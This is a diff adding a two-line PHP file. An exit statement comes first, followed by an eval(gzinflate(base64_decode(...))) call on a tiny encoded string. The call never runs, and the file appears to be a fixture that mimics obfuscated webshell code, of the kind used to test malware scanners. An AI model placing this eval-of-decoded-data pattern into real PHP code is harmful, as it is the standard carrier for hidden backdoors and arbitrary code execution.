@@ -1,0 +1,2 @@
+<?php exit;
+eval(gzinflate(base64_decode('S0ktLgEA')));
